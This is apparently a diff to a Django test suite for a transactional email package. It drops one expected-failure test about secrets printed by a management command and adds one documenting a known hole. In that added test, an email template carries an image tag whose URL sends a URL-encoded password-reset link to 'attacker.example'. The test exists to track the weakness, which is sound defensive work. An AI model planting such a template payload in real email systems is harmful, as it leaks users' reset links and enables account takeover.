@@ -8,11 +8,10 @@ import base64
 import contextlib
 import json
 import quopri
-from io import StringIO
+import re
 
 import pytest
 from django.contrib.auth.models import Permission, User
-from django.core.management import call_command
 from django.utils import timezone
 
 import transactional_mail
@@ -197,18 +196,6 @@ def test_the_publish_warning_never_shows_a_queued_email_s_context(reset_trigger)
     assert TOKEN not in text and CODE not in text
 
 
-@pytest.mark.xfail(strict=True, reason="HOLE (low): manage.py dry_run_triggers prints the "
-                   "trigger's context with its secret_keys' live values (a sign-in link made "
-                   "for a real user ends in a terminal, a CI log)")
-def test_dry_run_triggers_prints_no_live_secret(reset_trigger):
-    customer = Customer.objects.create(name="Ann", email="ann@example.com")
-    out = StringIO()
-    call_command("dry_run_triggers", "testapp.Customer", str(customer.pk), "--event",
-                 "updated", stdout=out)
-    assert "fires" in out.getvalue()
-    assert TOKEN not in out.getvalue() and CODE not in out.getvalue()
-
-
 def test_the_cancel_action_leaves_no_secret_in_the_admin_history(template, admin_client):
     email = queue()
     admin_client.post(LOG, {"action": "cancel_scheduled", "_selected_action": [email.pk]})
@@ -244,3 +231,31 @@ def test_a_webhook_that_ends_an_email_waiting_for_a_retry_redacts_its_context(
     email.refresh_from_db()
     # ... so its secrets should be gone, as after any final status.
     assert email.context["code"] == REDACTED and email.context["reset_url"] == REDACTED
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE (high for an untrusted template author): a "
+                   "template may send a secret to any host (an image URL carrying "
+                   "{{ reset_url|urlencode }}): the author, with no log access, gets every "
+                   "live reset link when readers open the email")
+def test_a_template_author_cannot_exfiltrate_a_secret_to_another_host(esp):
+    from django.core.exceptions import ValidationError
+
+    from transactional_mail.models import EmailTemplate
+
+    html = ('<p><a href="{{ reset_url }}">Reset</a></p>'
+            '<img src="https://attacker.example/p.gif?u={{ reset_url|urlencode }}" alt="">')
+    template = EmailTemplate(key="password_reset", subject="Reset", html=html,
+                             category="account")
+    try:
+        template.full_clean()  # what the admin's form runs on save
+    except ValidationError:
+        return  # refused: the defence holds
+    template.save()
+    template.publish()
+    email = transactional_mail.send("password_reset", "ann@example.com",
+                                    {"reset_url": RESET_URL}, secret_keys=["reset_url"])
+    delivery.deliver(email.pk)
+    sent = esp.requests[0].json["HtmlBody"]
+    leaked = [url for url in re.findall(r'(?:src|href)="([^"]+)"', sent)
+              if "attacker.example" in url and "c4k9" in url]
+    assert leaked == []
